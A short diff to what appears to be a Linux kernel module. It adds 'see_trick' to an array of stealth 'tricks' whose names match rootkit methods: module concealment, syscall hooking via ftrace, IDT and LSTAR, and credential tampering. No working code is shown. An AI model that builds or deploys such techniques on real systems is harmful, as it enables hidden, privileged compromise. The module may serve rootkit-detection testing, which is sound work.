@@ -24,7 +24,7 @@ module_param_named(conceal, concealed, bool, 0);
 static const struct trick *const tricks[] = {
 	&hide_trick,   &ftrace_trick,  &fops_trick,    &dispatch_trick, &inline_trick,
 	&lstar_trick,  &idt_trick,     &remap_trick,   &cred_trick,	&code_trick,
-	&kprobe_trick, &control_trick, &corrupt_trick,
+	&kprobe_trick, &control_trick, &corrupt_trick, &see_trick,
 };
 static const struct trick *done;
 
